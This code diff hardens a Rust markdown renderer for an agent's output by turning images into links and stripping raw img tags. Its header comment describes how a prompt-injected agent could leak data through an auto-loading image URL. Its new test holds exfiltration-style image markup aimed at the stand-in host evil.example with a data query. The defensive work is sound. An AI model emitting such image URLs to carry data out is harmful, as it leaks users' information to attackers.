@@ -1,7 +1,8 @@
 //! The agent's markdown, rendered to HTML and sanitised on the server: scripts, event handlers and
-//! unsafe URLs never reach a page.
+//! unsafe URLs never reach a page, and neither do images: a prompt-injected agent could leak data
+//! through an image URL that loads with no click, so every image becomes a plain link.
 
-use pulldown_cmark::{Options, Parser, html};
+use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd, html};
 
 /// Longest text rendered; longer text is cut (the room log keeps all of it).
 pub const MAX_MARKDOWN_CHARS: usize = 200_000;
@@ -15,9 +16,28 @@ pub fn render(text: &str) -> String {
     options.insert(Options::ENABLE_TABLES);
     options.insert(Options::ENABLE_STRIKETHROUGH);
     options.insert(Options::ENABLE_TASKLISTS);
+    let events = Parser::new_ext(text, options).map(|event| match event {
+        Event::Start(Tag::Image {
+            link_type,
+            dest_url,
+            title,
+            id,
+        }) => Event::Start(Tag::Link {
+            link_type,
+            dest_url,
+            title,
+            id,
+        }),
+        Event::End(TagEnd::Image) => Event::End(TagEnd::Link),
+        other => other,
+    });
     let mut out = String::with_capacity(text.len() * 3 / 2);
-    html::push_html(&mut out, Parser::new_ext(text, options));
-    ammonia::Builder::default().clean(&out).to_string()
+    html::push_html(&mut out, events);
+    // Raw <img> in the markdown goes too (its alt text is dropped with it).
+    ammonia::Builder::default()
+        .rm_tags(&["img"])
+        .clean(&out)
+        .to_string()
 }
 
 #[cfg(test)]
@@ -39,5 +59,14 @@ mod tests {
         assert!(!evil.contains("<script"));
         assert!(!evil.contains("onerror"));
         assert!(!evil.contains("href=\"javascript:"), "{evil}");
+    }
+
+    #[test]
+    fn images_become_links_and_load_nothing() {
+        let html = render(
+            "![the secret](https://evil.example/x.png?d=abc) and <img src=\"https://evil.example/y\">",
+        );
+        assert!(!html.contains("<img"), "{html}");
+        assert!(html.contains(r#"<a href="https://evil.example/x.png?d=abc" rel="noopener noreferrer">the secret</a>"#), "{html}");
     }
 }
